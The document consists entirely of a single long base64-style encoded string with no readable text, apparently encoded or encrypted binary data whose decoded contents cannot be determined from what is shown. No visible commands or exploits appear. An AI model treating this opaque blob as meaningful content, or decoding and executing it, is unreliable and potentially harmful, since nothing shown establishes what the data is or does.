RGi5jWZe3fWeMDdcSk5X7EG7BTVH5D7blWQdypS7qO08bVwgdl54KxZrnbWKRXvEM4EVuxrcE+tAlveCAL3YukywREwwGP9sfcgKCp+tLh90/77zktXgCTCbYBPKBl/lcKbwZ9gPpxkuRGkEgtL5kwWsHOTpopHlMszpzkuyficu+B6JYZVqQeQ/Vlru9GnAa/9Qx4sCz7mWpH6Kiz9b1wBQpybt8+IDLgV62ICrxP5+4JOS1elxTKqzXUmTFKA3EK+FrPI/In6oUjGn2D8rzuV41SNcq0Q/e8v/4r4UyPLAtN95ekUAleyG8TDAowr9EaP8DMlSpJfP/35B7lJyugZmJ8COVVXoD510J2fdoag4XXnn5YWAxdiKGMszY0gF3o7qWdj4Kafc+66YoJKUEL53y8CK88DRtSloHFC+zHJC2+ybIF7ehhIAlF2ByzaFrTbn5+xicRk0el61Ak4F/pRfJuk3GinG8XzFADMPtuKTQhip5EnQKa2gEl3XjqS5D6484UQaT3rsWxXW0mpsWNguNT4SZZN0HCOl4Whbv1NXHBLEpdOxg9C9/gpu+bWeMWtEih0cV92szBZVCkh5N7xItbHX3onTcwd9n5kXygw0KbuBB3a1GOEydFwuzEjtfMSFJ+AvFNGjoLcEFIL/jyf70giHFtLOYf6h7kQXRJtdkMbg8SH6eoTmbEwYfa+GyVKokiVtP2hfWIY2LQ+2UIIs67yuOhY+yOcpPeN0VmXQ24Q+E0lbEs2oM06/MyaZb0OB5LtEEP+nBRogyaL9LJM5FstEB2erQ4fCKhAhynCEeFgjbGfqaa89a/7t58/Btcgb6llahNJDRcrVaWo9x7f/ppl6WIzlZXfpvOoF6ybgDmN7cLzGOVtFBRGbZEM9rAa4omslELH60OC7suP0uuGakxIa0Kcx7TEhbWafiO5MAmr9letQ2BGaP1SEnxUR5SuaePbzE5hgBIwT9xGtPZJF/9yTn7Lf/6Pe1HPlrkWLmeJT9YO1z+D8Sw8/KJk1XyhnWqfrhVA6j5EA1HWfFLoAjiD5663fzxSjj9/578ctHX0sr8VnNnCDUCcPvKt0ZacqzpfpWoYHfQrJmRz8YdB9lxLXlgqppTK08gbSd987tlcksd7RXP/ENRAOTx1vyy9QUbW3I8xA1g/svZY8TuTUruVfkPj9hYGpwDRAvGWvA54NkKxpCgcTEPVC5aeC8lJh+7gVxZm113SnwG5sem5nt/TAP9Pj1uhOHiueztwwmZplWRNLaKI4J6MpBgLU0jMMp2s6EXIP6Xv2BlW8DMDZO8eDFB2c3gVQhtLHvDFmiNw5U5HFxbuz/3NJmwZYK25i0Vo8UkSlN2lIds6O0oujWJvHjpVv23C5iUxFZKL/pig2+4dvIzE39cPGyQ1iO8cFBJk4K0Tz97e3gG6TpNeogoDxKmr4C6tf6yoTF0rW4yFIdosRYQkJSAR1XX8IIMuov+fnwcHplBCfp2+bFhAh/Ngh1c1psRi7fJ3yGVcBbGNrlmHE9ULzlK8CNR3Vm+LF3HlriaMcb+FFSux3CqRZuOwE5IgDXPQhoohC4GtGxFVWW8wZJ0k0rjMpJ3Ib8NBGzoSWrFmARX7gSNxDY2KleeaQ9iUBOMWKoVZl4CnO0paNqRXKU3L+KKUB6IeF8cRohlWrlrf9gFeErfBiNvyhJEL4aw3UTNRe9mehxoBvp9d/wIzB9sSk8vtNg2aoDKfHtvlKljv98ukY2KC83bj0ljGGoRiUCz8xA6Hng0HhJAl6GUkM/YU8uHsHIur/po9Bfd+NXhLntMDBeAztBMcR57HEeEqPXzKp+Zvaw20bdl7vLrwK8cBI4fLM96K5z+V/mmeuDWXmXl2Qbv11O6iIdOV0dCOao1W3dnbGR4Aw6yut7B66CAH91B4kIa0vs5t7PK4NNDt3FwR5HGJ4Wh3824ofCSLnJKv7qci2OG4qNicoI3cc4v8T7IvnZp2/XXCJ5M2OA4MPxVBuz/l8DXG6TgRQ6nSGpa4RkumXfTkBiD70mgLGg8TqU8fXo3V64lJ6d1+Lqeiq/gB6ChVBrkkHffe9FSQ+lhPJGl8Y474ehe60iH+Fw0jXz0jfkyKav6InYuW0o5CVkP5ig0lEFKJ1LiWxuoq5/lzf3vAq2HA3+LgmXTJ4aW+QYzvPHzVRsdsMU8bF3Gs9eoGEA4p7MYKwniOmQ6egHY3ruvtkfZ/xCmv2Hfnd4bF3sz/eLeVQkBdnKoYazvvTfNZa4lxXDqEs4DpjC1Gd01mD8U2jmx8F/znRsj/eJ4Q8CxyWUWuj1LZX2ZrvOqvSnCvTly8p+nK0Xx7ZBHvIN6cmEk3LTQhqmlJEgmLh3DSt19A6+J9ZC9uS7tVVsI5iAtj4oF2H0DbtsbNDVPO5mPtNMVDcczZlygDz8EsqqPaC3Wl7r6UHxM4C1bMBTNiF3IrJybmbIdzd8BBUo9ZxC6dLwiPPrTlU5gu8i9yjjKU7tokfRrr/Crlxm8O78miMFFyopl/boacDKa1C+y5N9ntyDT3tU5wt9Zig2MwqsgxXSpUch67nVJX46gLJephyOAIIMIpJV5YH7rXlf+7+wWjhjN7h1INCw1iT9lu0ACWgoJq7lyUeY7+m08owHB92no4V4EUUaI3TfPGu6xRMx1r9ynuEzKzzXdyp/Hy3uG5XF9WZb4YY52NCiETyXsaMf8Rlpw4C/xn+49UIJIHmsHeV9FOJcCflqUsa4AbwvCl2NUM22tgPCDCQiyPZBuNQijPtYpuEvX8Yf003MzvBDM3m0pLpm83DHMb+aDEtptgxAhpyMMNH1uqpct8GSYGFwkQyTNjmQu2dZh4fOrG5ekYSZopHkI/mexqomDX46ak2nh2SNBZnKTIn3wYA4uomG7ZESSs5jDRLgK9Z/3YNPt8hJobjZeVKokbbp/6H3PLLSysoKxsU9SeLVryKPXc3JYOTS+2j2/3ESgpo/MFLxlDsR61vu8+bBTVCQyqD27BaVpzk/zXm6k1Q7yC7FC8bYIf9U66X6/U1JISl4Zzd2x1lkvsb6j3LgyH/21jKFma0J8tE3N/3Qvad2THesUK4WrXTXVBPVScQdruD9wwqgw2QdN6lVoIsSiIQgmpcsjl/V4Evj4cpCQkFkuEOz89eMF8mEJZsPikQxuaAWetf+/lVytvRClmG0vK/QCKSOaS5K13Eequ+Iy5rWawF5RKCptkcou1fdaNmqjyZvWf34UWcjdmAWbaVf/kOatUDG6p9MqTjm8FsqjwhLHWEyolQO4RYNfUGQ5WZWGgwDI8tL8QLuAUyHaaFbMVurnIGo2JxRkp0uHfriDtbhBOWvi6MzEHmGjmgSZSUCFejH7JxxTrnv9kMJ3leRhpiJY90LLL65UrKQ3gCIWFk39+2bW8nR1UFOzDF9F17X9aYVRmlA3E3T6O1slyLTrR986uT7WiUFjPc3DbM7l2LNSAMDmYcN6S9inMdGV+fzpzHS653K1kR4lOHQKnPBS4aNevJcRyS0GKf6o8PvNg85Uu50VHMggqvg8LlvYQOym0RVh16wnpHOeCr1szrrMnfC+X2yuNpbBRAP5hvT5yzZ/O//frMX52zAXGaihe8fou+9WeQwNHNCcjgz/hoInrRw7/wgQ8bkm1ObFFVjQaYjVuLfLr5maEkWaMBk37RPUZvH+AFJCHX0uGfj/Nwsn10DqaTXfi8LZlJIgv5W0g67NQTYgj7Pd8C7s7SHMsTzVAB+MBdZrZN6A3wd3BC9N0D38qJXYVSq9zSfC/dWIHdoCOpB/B5cSnACA9EGE6Rnd+GAOBdAIpGIUJpQ3qT5wSturOMvEg00/hs0VaPZTTUziiI8uvabCCGHfA+2pWFn0ZLTRJbgezmYWxtQOIbntwous3sceNhqCzI3aqI1CBUt7GnGNdAFSjv7H0cKGjKIb7OfFKthLf9bcjDMMLBh6gU0dxfYW8ExD0414GVXp7tFQBpg7pJV8LFPXAHBedFYzZA4dbsHGZlA102wB1O/8N0h5SKH2z5Rg1X3Qg0U4VCe+xe2PmBCDxQ8N6G1IG22EcLsjEvEXb9xjBhDpieWDTzQP5B1RpbMwlzRhINXN6CbfTE4Lbxa9slBIh+iWkgusluJQGLJ3r5ge0gI67izAxKx5EiTFfHgLfeSZ5mrp4/FRQVuConty5bvBohWrOESu4FKLLVQvYh2OODniD0TD0VDM0IfSWYNuS4TqLLhLgT+4kddbHzIH6HnVJAzKwLORKpizhHji+CgGoYwPo3aiBguoorFa32wcO9tIRWdhHb5wE/+wAlbn7I7f+595FuqUc8hC+jYNzx5vGAP0DJkCcS6o5CwVKVgwaHqmFPhXIjbuQ68kyK1DnQQ8IwGxhDTty5XIg51w643Qm5jDe/GyddQQpbRinL3g4k0MV56QzfAgaUTnuNfYq3cUXH5xhWIA6zuIpWhR/9LdpukmjbOwDyipxH86nv0bi0NjrPZvKe1CMfSjnFdF0wUoXgLll8LQy0VGgO/IGjITvNH6bKDMhfK3Ebajvyvj3TNJmlBatf/CIRjHnCCcVr5B7U5XWUKeirfczbpq/pIg42SpiR5MhY7IfkoRxhTzN5V3QiZCyXjYdbvpvxOO/2nfY5u05dW7C/hyO+uH2ywSYOAvAt3RJIGNR2i2ZBp7pwk0Tdn9lgEBZvDauaLJwOHy1kEQJ54ktOwaNUkl9gzeCIV3GXHSdXBHcUSmbsTS+N+/nqKrlN14z4muqThIstxR2lpi5Vr+ltbq8YcT2yeGxDGWV8WgkkcoIUyn8bPtjQDNMLbcPyxaAeqvdGXwF9YnUNSASO927dt/n6kmLpbT398rsk8DGzbcj/BbbQgUTjhGy9Aa5UPFkF4S7rF44pHY2FVkD7T+eaF6XQcU9FkJlgs9dMffKr5VE28bsOIOn0Nr5qC5bOZLSPul0g/Li8dhMMr6JmU8yQwLz0whSyFLNWrN2ew8DG/+tQ9sO/wG0Ss9qU2DVesG0aiG3NEqksEzK+YlpyiUIfu1ZbbVow1ynO6V5yscG36WdFF7AYHMbYNVprlnsT9lv9W3c/xi6rSG/CJkvNhblHcnbkyB14fyntbTN7TEAecq6ixy4O9CoGxslODl0XiRqUITtASkL1STJH8wKJR/VudW0V0NRyCbLCgsv5HJ4hRZo+l5CJsK1XiJsB6WVQjWlt3K8WegiHqKGC9TBk5O932LHrduKB9paR7IdDOoP2oElh/WymqzwEbvf+U/sKZIR2mtGM8fjtfsyx17GXasxMr74x4Tlv1r2v+MwogU6MKM6l8AUXjdAxmOJ6X0hxAmC1M0GIrfU8Dj27ncczfMnHo86Yn3czzqBuEgLgQuI9rY2dqtgCvMi4f9wr7sw/xAZGrm9Laays4i0dR2dsqRncdts4a8xD0TtNzRFCsU2urpaqpziw9zaaigcLZ46hIVGPKfp8wrpzioWduepDirw/qecuMMGN83I5DgQqZ9PVAaiLGq4IMKFrWdThNEFJbmzeedok7R8ol9BNpbUzg4IwUTmcWK4gmaChA2sJx09lauhxM6MF8m0a2PbGa4Q3eI1DsFTY9fFqIqwfvSjen4ArqwtAh19zzy0N+9tYupVL8t2Uwc7EOynGwFVrJO9G9biqeaCD07H6qZzEaD757oZck7pa01Prpw8uORor6ZcBw6Id9Ia5bFrha9zxF4sP+9Ll4YJ1YGhDTgJ0331iKLNxEhGr3AbAa3vgAIgmTBYW+JNu+DehyIicTOXLloeoXt6b4wRgZjpzSUsqtltYy5n4m+/4JCfzSProhB4jxfyB1fmyEWrQmtO1p5RdNuGP0Bve0ocrUFYMOFG7DFbrV++4j6oBFi43bsAORayx0W4nYqmpOPxWsEJJ3+PGf8Y8E28ks6rUfFvo84g+QeyVrDR4N9lu5R2K61THbNXLnfSxBk2jxpE5jRJgTLXtnzF/GS4OibYVNgkWscgSzjngEJe6jYr0FoAhXpSUteQHRRAW1TuVw2Yq1xUGVVpXHbi1azLGHBA6Uodr66ufVZnARLrqDs/Zy3QPnQv/8CgWCC3sOErFZjLYIK+htYdeCFe/nn7umsXHv9MdQMK3kZGwyXVBrz7IHf1Gz/dJq7+5QuIoE9rPXPLP5+LbOFN3VTggqoW5WvWocItgAMl7DzKo1ATso8PuLBF+E9qzA8/s3ETz3uc3CBAfJyqnqtIBAVwuDcmeEwQCgJUX68o1+JTMPEFgB0o3QFUUzj6cku6JUHbUmaBJWT3S3O7A1bLhrkcnAuVRhKge9KA+5WtO7nPP33yYyU+bf1hsbzrRyXA9ckdjIvZQoPnAwyfvg47rEetTGXPwarift7gItfe1juRwiU9S05/QQpMNEmOoA0IzX9w3R6BCdpPbibS00+alp+xBzMEjzzeQm/b5CLulI0Siz94EhiyxYfSDCX1g/vurv95r1bcTdn6oCOkf/pjUCCuVNzWQZughh2JjO/RXIzqsubrp1KvCht1Cn+9K+OzibMsssmOZ+8xLvMCfcEFYuI8+VYvXrlM8Y+tczoLP7aBoXS6OJbN0j8UR4aIrHg6idUPdnDH4hr+7Ko5OUkZcrDcBLAXVfEUFJ398OZCTpBsAcohRxIM2OidaUAd3N0pA3NBty7RToi05Q/sdcX0Ir2BHoQ97oUdEHIG8l0CzeP/eUWYDw0LjLmTVDkiharVFA8lmlqq8bi+q0CmMNsopZOFGDkfDm0moWEUeOgpdj//I8tSf2TQ4udBBDmZtD3qaR6T3CbNOd0ko2sicB0blUFLay8AbAyPqfS60xkEzpGE62wrfH3x5qulPkGNsfqxzMbndqyJ9nGTJnSznxMNFqN+7ghVbXw4U9c989/rByuFlm2VT5WfePmZ1XaJEt1Tp2m+ykhjPGJts39yVTN3CV8gyTeIWvEAiOdJLKrRKnupdsMlFdrnpKKlmMbHIG4aWETekHnEtst3JdI6FONRAjOLemWpbpVmH/YAO/L2UTpvktCXI1NjJairv/Em1TaDsjDfMpReW27VXoFSoTtWCRf8TbArKl1vfzzxFAR+hygJuUpaW2D0fccSE+2juwskC35qdMQ/lEY6ngwOmq6qOOUvi46iSfWqeSTKFd2O35P//+ypqoloRa+q+hJfDC5EjNYTuWQco/G5OMJoYZquv6NgDH7KndEmfcZYxBrdOfAkdvV0aNrHR7/cUVjot8ueTy7dX4KwaFdDzawoFtXoUZLZmKPnAjm+ofSbS5GNIZpLqts1Np+Ktb1KxrUoo7clUJ3L9IOXQfPeopQyES5R18BV8n7pq2Nr/eF0ku+7DdgXOh+/FUeROEJsayWibwVNB11m83m4B+1riEH4+zIZrEhd5KRFypZzrPoacvr4wM+Rk5KB2WSQ9CD6B2VkOG/XDcWpcqNys7/+rV/mLDlMfDQijj4rV7pkywDL2fnmQDrW5FTpEH7261bHIRKQGSS0rRbsp3f/rfjpz6rcoByynCveGZ7PnmvWeAlTDSRn8rSjuvoe1+PDqVN4aVXx1dL/VDE8hVm5Uw1qA3MB6DBOtB6Va6ief3BAwprXF0KSzYJQIIHnB/B/iKxwUTyz0tb5o2w5/LqrvhXtKooQPYihSEB40qaEB3OK7aZonizgibBgjwlV263JQ8h50J2Ms908DPPC2GXhdK38UCMtqFUwGMOGLvmi5s/GVY5dDvejYcjVgKnWIDExW9xYnlCglMZ+wyMMS9HIf3X8yjw7Xf8ZPuJS/cH1AdFqELvVkyQWHBhpHd0pBVHOp9s7tXClMEab9dEtLgi17Gonr/AgVn3TzD3mFf5RcIN01Z1cFr6Zs6FViKCkgw3d1ZrxM4LkLgLVQp1v4ldDan9Q1i3uDdbmKk9zB8ubTQct89te2h3SjDX1Uc/kee7vepvk9x+gEyGyh6QxlYvhfY2jYPaqFDAQRBhj84rIF+wv7N2z1m/l++bi/GWJ/5S6RyGgdiswVe1cQR5/d0KPdlw8lNQrw1oMfZr2WCoeNb1exi8h7Ef/Ldvl3jC96W2TA/jkTfpDr5z4rwuvhem7+LXi3BWOId7wCvwlFU4ZBmjPhVq/06Uzdbj2rthg9UtuRIbN+ZLnMShyYt1lWUfld8qqM73xynEQQ7l3Z+BcyHlAihpSECcQcTVD8/XvGYUmjlPOzW0ZhQ8askJzicIzECFi20/dh4X5WFwLTp7VEk12yKn95hBIBF+C/iknS2xdGKmhc+hMpJ0Zheq41EIIMW5+lUz83aiQhTXGD2K2LoWn/EdGXY6VMCRq41JgfhLhBLKA/ZxCEBUp9pqm8AQip/+PhiHTI/hg7sdHbbXeeyU4/mln3+TQhbvlW9bD8fgdrh0DqYhui6xEd25hdNX7WCUXGRfHDmciqC43/zCg0XzcRbM1vqsMgkXdTMGUhi/WLih7v+w754y/bQ+i07SLH9jmw++riB1nmZXZTLpm4Z2yzO2YvIq0FUYumsz8xWcee2uGSqXDNc8Ok0btK63gyD+pRz+vrQCKuoJRnS4MbbDGbuheYR/dXQn1K4JVRb0rWhilp9NywtzufQ25jhvPF9u3yAp0KlnzP2PjNngWkyW26cqZTaZFiqE3GJyO4kEB/mXlQUSycuStrO/Paslay0Ag4BVy0nOEDKP1y4FJwPV+XC4G3PAkr2aCdLNcuGOQ3oHjBcN7YYiEQIMht3MBsOQk8AkStRLVf3YCrw6JC0X2emQ6cdAeF3hs6UT7ajrRhA9jCN2NfC+0KlRt7sM8oK5kM3zvgO1ULow0790iAcCrPxp57G9UuDjrq+5HQ1J4QcjO0hiTz9TkSZX03KXr2T6VO5HY79d/XDHyKOOlVQip1V5w8r0P55vvoeg9PlcATfs7btYzEePIoLoosX1ZjDv/ck17qvFpkFctHvTxxAMn/L/nvoi01PgwOhgnf6FSJPhYVOcjQJHK5re/obLf/NPvADahTvO+KWdoHxd19kKQfgXDQ/rKPm4Th+8uc0f+1di2x5Z/xWotIi6/gvAQ9RUiVfMa/ghLSJgpc8sv7lFFSRV2+s4jFCa5mZRBY3UdV3uuiIReVomYO5h3BM0q0Ja+vUhXZwxGtCeGSPBn/nLGTsm9d9ypHC3SH2W3BzgtgjVg0HGRIcDrZF9R+rJsvEwPJ7MZMnrDVw/kBfnolqE49UgAfLo+AJkbz3ofYOL1spgcdAlRF/mEvGoc6WTuhzZl26xGI5THJ9d3WgMA34OZluC4IoYFwpF3MFgL9P2J24KheJkWzlFVuBdEj3kgmSU2V12oQJxzU3oWtDJWQJn4woHqIOe3dL7qn9bmMxgWvPHmRZF3OHJEhmAbRdD0Qsa6JrJYFnFaa4QugWHIfHdPeJ/+wXTSd582stvEjOONKsPH3+1NgID+1jFh8acX9Rj5lRuZXrYlAUEqucf8wumE2alCUi9hdLF2bjTCDEAdmdMSFJFEvvrh1IUtH+JDSKq6w9JmA4J7RgQvbnZyvg2oJrQj/AiGa+IJ0khrkwOGCW0wP1Yw7dO1+DzC6mkFBGH+c3/Mckv1SzvuHfjsgOz4Wf6cRGC8hJZFN5ZM4YcPjueGgz0rAYwmnqllJzbHPKk/8XYBHI9cfT68JyA0NN4gR9W2JM/1ROavXbFRi4UEDshn/S5qk4QPNk/iSoFKGuu8kpx0tal3iq7o+X9cvuGXHD9KDwU4QjdzqoXzsRetOa0ZQHTeu/uXWU/OSz/YLV+Eyx6VjK6Y+UaxnG05hsf+ru78thkcc8ie+haLJ21h32k4IX032uGGA+DlC9no5tJyKGwhHgpc1FkrPBJKcCtKcTSBuOQsI0x/850DiOvnVaURK6smJWF68/Z7/T4lugAnKEPhOYX+2Oy9BZ9i9MHu8/+rMtTEf6br/1yJdbZazaJ5oqlXjxUZ7M/JdzIZNzj9GbqPLBDOoVARXEf0AnoU3xOmQ29MfcL1wz2C7zOTDyV/FpAhAaKszNwQYmEw02Tzkw8eteejc36qJJCDDhxNnXbKgaHzqchcqdmDHTyVV/yVKSFF+QIMjJUpXMnztSnPCuZiVwTHF66olpWqWYnCbfNUET2iucVHLKWi9NPBiUkQSSYP8fAEonFvf7X/Et+ZAFRl1O1MHvRFNfZJlMwRvL5FS2uKpygH2lv+hEEU45Xva+tYqmwxbuKlm8lSMFo6MSfik1RS7awbzmr8w5x4VTyyczVbT1Eu6cmyXcbhbs77TcpjpfuhSd8Kl+NMHFl7FJR204KUXsuxz/QKosfn7RfJvKXA8vMNDpvtj4Y9qbF1yI0GqrEXuh/48igaFp2KfdV7DDMnkmadf+2tjLgvaUKRaQQ+u02AV705egAJM9KRE/dErK2+6bfFPeY9ctPNzld3A024M6CZdBEV4Hj8YbeIhjFVQBdVoLd6rYKCl2BzOx1IPMTbYTDiDYwNNtIJG9yfweIph7bxPie9qOu6HlPEZJe3N+UUKftetjJs0Liqb8rq/Tkwcs1UbEm6uYNGp6t8ouk/mQ5mE28GFg7g/iOdEpc1m/qqPhci0hk+nQ4QybgzaNM3hHlYM1TjspEOD/N7rALhfkjh/UMcX6AWfc+tpV9e+UBWIIBuDhZ43vmd3OJfbuBLyLQiCwEgGBiXX4jL5cVzc20CdAxP8ZNsFByIDu3LNnVbB9pfv+b00aCNg/kCFrA51zwmOYpVyDSt4YrIF68p4xFLHFd0GrUkGhFQQxg6+x+Wbn4l7s45qj+Huz30bIOQ+fVPpd6PCxYmOWkvCc+7CAYi38SjNG5mNFu9lE1StIv331M/SgfZvC8wHWMzVnl4PdCz5idZOnvpAu7y19q7/HV9+YCX82MSBfH/hal6JDg6ybQPjS8kSR31GBydmMkywjkwP49t28MNO6l1IJBzKlPs7y3dNL6apzpH3tTchhhF2CciKu1Dc18c/+qQn1Yy+QJet/hAuwxWdTN3h3hAO7N5rf+TYpdhiCxh+I/SNwsOPT2AOp/jOkC23TPBALEjlMmMGAOQrVc8IuFhVprNeUzJzSp/Q7z7f2otmbVLOp+AuOyf1kx4ouEyw+UjMMOrEGBJguoqZ6zBgiDVsHOGWRd2dwhfwNLUwW+GI7x5Li6GZbVwAArIrlyEd/YwIf9xW306oGdgz6GIyYKri/DWGnZMQ41cxexrb7JhZ+zpiX02nZLSLnroxmARSbap2xpPDjln5KMCXrE6oGOBeIpBMmyfZyO11lPzBRsHgnRSokbinJT8s+qGO15+gKAGr1K8dKL9SuuE4JAS29anqQQQHO47ER9DxoSGtKNN5wxIenlCKD/NADdABdjxXeqYFwY3Zhk+LDNrQHuUqiSXLN4UVBTUwQDdq3DthmcnmhQlePBjW+xJnsKWnTHuQJmpYdfEWLPDoxvZeSvW2UzFfSQ+iFxfba0FHnv2+TQdwM/V6wRwte3TpJGQKIlFCN1C6sgZmUMmFlROrY+uvRbTtacjjKrrCUeFLZNp+kb9MneRegixpY0IfxoCZgFFqLHgkY9Mwe3k0XOadjooIJ2Qvw3JRHgFu67W+soAL/kj7eM5BGJK+K2s7aP+o0t+GGIUmga6n45Y+a4PRwboXODZz1It8c8FrudVsPh1XHW1dOV5NnOKp/xTYY6RB67bH1p4yK7o1RejDCI6Fsrd7nwTwbqGTL7+pmgwGAzf2YdNRKgx5sGVRTof+zKcAX0Csdxbkg7FXk3ilJNhx0zdgZEy5XldtasoAR5Kp/eEeqLqIdPhvDb/imTDAj6QPhRj+qsUzfp3ECm7YIntLqFP5BWRuboPL+20daeExvCEFA6wQUFKdwL7ttAL8yHhWwIyEmOdcpvlslYGPRwNRNJpXtQlWkFvk5Slqx/ZMTlQXoTvdJs19VD5yu6T2QxGICA6A+jiYnsrA7dGHY0uKJmAvWqrvb9m1ihvfhqsCquMCjMpD2b9InT1hwgn/yBTXPEW1yuaMbgLVJ5TNLMEba/3cy8etiZlA4/BLu3g/22617LH4K87qWxTLkgrGcWS410R++kGkdvIUh2LS5271ViD36nERpY/8+JyVFbPlhPK+NdmyR91m3yWJJ1RCwg+TbtdIGQs4pumhENC2XQQUoAZyUp8LCUH2VpBK811bjqP0t9mE5DFpg5Y1TgmKFrK5M97gZL0D4ahIZz8tcRj/K08BWxSS2dTMropNeVr3kra4ny5evCAq+BDzvEgGVLZUL/kdhSqq9cimSOKz5ZuNsGwXdASWQakl7IUjT+xfpR7DLAzqXwOFauSZs9FtGedhiU/mTrsh/QKw79RUVOknA4TQEtcKoH2qumxCn4HSQeMmxO/j/AOR3a2eOjTrQw9sUwouzw/fzy55jSXMTLeADuzMCFRmJJHYoVc4zbDcuC344XbaXjyZbvLUCIOKS4nazIt0EQfPjRgLxZhG7gkThaGZ8RXytSw4w+amoqPo4oFo86Y2h0bX8GEBy2UMa1qpYACkTbanuWAWFwLKYSKoUVgSK38IXrK2EFbJekzP2Zk4iS1Vz3wvpqAYY/yGlvMYNxboQpisP4o5yN+mS9FeM3mLf9YfR3o154xKg0PpAAbtZHbTQQp/oAAiD5zKPqYg3OM7UeRwKEe6FbhKuRkv8E/v4WhtLTIElmrAs7GBi8AVtqjv50iztKnbEpMN1LC+6WVkoNE44lf66naILmnd3HU8Wl7e7Dbkk/axUwi+l9jONVceepwH5uX1V+aG4g6LIPL+PD92a4vRv2SnX2K54LUPtm7Egcas2idQrT/N4YvnfbFJd8DBrpFKGZxlUj+dBGzXl4mqINXboaI7+sknih1ZtgvXekZTobbT2hFN458kwLFJjq0cFwc2mtYf+kEU34OBkuukuKXHpXPe1XOzp9MOcy9NAfw8g+8VK8nw+gIrgWJ7gTUZUTHvUDZbSo7MsoATxBa8qzKyWonP+6yOsoC1glCXI2TmIKAXAsBdl/BC1UcaPqXqhDTgnoyxoet3yHo8v0iBh9pyYriP6y8GoiBpyZFd4qo/Czk6rzmbbc0NBSilJoDgDU2MyPXzyNIDUKViEf295sgZm8r909bE9yzKADMg6SEBgUUpWMrq2wW+xTLh1KySbuyezm2sK687yQCaKB9PgEnWL5TH/9zJXP/rfoe74/Dfv4k1g5qcML3mss1s2g7c1hMwyJRHpO8CdnvGd+Pq2mCrzuvy0/0i6hsfL4friZ/jdazb+wFNDLbsGVdSA51GjBWjAfAnNdU7jX1p8E+XWNV6mv53YFi9SSQ2KmHLTrFyxXGSPzqnJG4w5L5HT+7qHC4DoK1WSoaaTKWxqes6CtcSc3WRVzFk566nCmv6DPXbQfVD7zv8JrevtybtK1nCX/ag1v1JFLAvnsdIsgv+DLVGMqE8O1RlR7R3ZeHEE1wUVpTDvqmNx8VOndEVxd3d+trN2BRdATTyHMhMgdZYLWn9eJarlgqrLBSgttZyWF4U3Q2dQsdDRQQO+b9tDC8+qA60CEZxKMo9rNa1k4PtzucZjZg+02lwsnR6mvlBnS8dBS5Y4P3aG7AlaVI+wdgKs41VbxXgntZRiYqENbb42DFUE+0Va7yzIz4Fix3Qyn1xcPF8yqnZ7FQaxt5rD/kGBTmpkLyKXZ0gb4A5LmQegU3W8UWUqfV4O5xS7OZvpG/u2G7yKZ3lSKTg+F8TrrurzifdT5dGs0tIdrxaIgEO7WVrv74cnNJxZ4IBGFp/XaBr+2WikKyM/+MG8CKru/eSykPe0e+Ifzpdmj+bixjXfNpaZjyK4D5BTgsyyehJqkTSEi+5CCl1E4yHw72f5zYPIqkWqn7Ct3swrZ7e4LJaLsPqng1VShDJKtsIut5pqX6dPO1V8MHOxWpbwOHfdBQ0arnk3SjJ5/xJCeZ/ICkDc4jCry6X5DpgpBcyX03gl6C6/E31OkkUesvEGJOeY6rlc/Rqq8FYKmskN/TDDVNP5mGBxzp/+CAVMcMUaFPv4o9n/HZYFJrKQI2SyBbh705jl+clHTcfAcPUiV9p4RkvRVnvKkjjbhYgJP5sMXCdudXPqPWvO0vtBAujZHG+6QTVkdwVy1Jph3O/a6eqhF3hg8kaOo6e9Y2KRQvvEMQAdwfT6oX9StTXdLqE/XgRqr1PdnapH6VZsVE5ceLqhVTAfkN+0gtsbCODdQ7BQrNWLTkj8ypsbMNQHclGnT+c+sf8BIPQWpHGhtg4h174EMTAitDNe0g4Xp5pZqcYLl04NXB4jaMoDOyZU/EZTacw6U8IIf10TKdfdoHvYtVNSc13dAyApgMOoiQUjnEY+H2mz0vymRGwl8FObb82/IhZ/NGJACzhq/qWE9ic+ImZc2XfGuPRv1g8cgfvWzxDeLALUh8n7WIeOjR6wkabU/m4upWmvBihw2lr3wXEZaEP7O32s5viTMlYHCzy7Lxy0PiAMGqyWtCE7vDlwIdckmh1xvg+6EzSi9QGYVerNGp9L8mipylzjvM3UdOO7USa01+hvUolU+DwSvoqHPX2pP03kmGItxdoqsFseBEk5vV14IQBpgugGtubz87h1eZhGonjdC7fQ6B8g8AAJnuW0dqVeuTqvUVAaKuv08OrLqrN979a2m2LBPDBIr5WwDj5oTdqEnkiCvTaKSEoLE9QOvu/zV0G87U6LhZ+GdbGt8z53Z+B8pp+mpTUjt8ZNw+JzTAfYaPwVnZxyHj2E5tz8RC+TN5nn28JkOEkbcg994MVrb/ARSZyZJc+ltzsMdsLRjQsw2bAr+icU7NFZsaLxRBCVlJQyA/HfOpp1AYe+OiyeXbMCugf7ciNf+N5mD04Ras3w9RCfdJkKvoFUL6pLfEx6t2vLCkGAfF2QYxkSY5tm2m38auz21ac2bLAqXVWZGNTNcamBNkIBOGe/oFlCnazVC9fGA//oUFLwTwP+NZw2XfNKNfHFj4F2O56UOZQJOxBPsmUcXJvSpR3uOvAkwGrZtG42Ujx4oirKBYNLI+37F4u2GCTqu6jm5PeEJYVuUzKgJ4jY6rRH0so1fOgFtTPec1e1enARE7jZWX+ct4Wvk9bJcWj1IAt0cWcc2AC1PEjMwqbDw5DYY9+8zWwBrov0lIjhik+vsL0Q/vxIxSFNtwmPXZiIp0UiN6ImcGneNR443btVE5ER0G8cpk2aw+B9i1/a4UCti7em5mcXo8iXxdxHS3sDzhr9gYGhra7XdYez1mIj3ygIQ6kRJZ/2BCGhfoxC20q0a1mWp1eQWsZp6Q451WfpQoJlCtt/sTQaa9OmfYngw5P818f5p7xxzYI91Jy9SHl5spBVfxsUezwoOG/vdb9qjC+SxEM87ZUSd/fUlVdJrwEsaOCx8MpcwHa1eWYXhJTHvK5lOxj9L3ACs/7oADtVdhID2YYXCWxFsw9jgKfR2bzjiMt5u8OhNd60cw0ruwPaS8qWCNkSLVjl5Jxq73DNK+cEFRyeQcVgIJ63Ho2uLKfEyR5x0KlCV0wiHcfhboncPLWUrmtNqSYLKKu4SGAkdB/L84GOxBBtzOGOVd9ty7sglilzTMyYRu9qEn1if9LU6YTCeN3q50MgzOJ2T/LmPoFFzjkqqzwBgQYPEu8LSa/VCW1+pRypkAKTxVhfagICaXYkga/oM/kezUyO+R7fQgb9VCKbgZWmzoJoUXvh3cR4BbHRic8T3nJ3F/LWRvBxhW2lgMDea3KWJrT7DIXhRnlmO8/Qr2iOm+rQWCmuqIJgH6WW8Zy+TrQSCQJOoHbDC53rmkEw89DyF1AN6evejoDqqYZpdOv5ekNKrWI1lvZVPyVzc+5438GM/ngXatlRqowa7See46t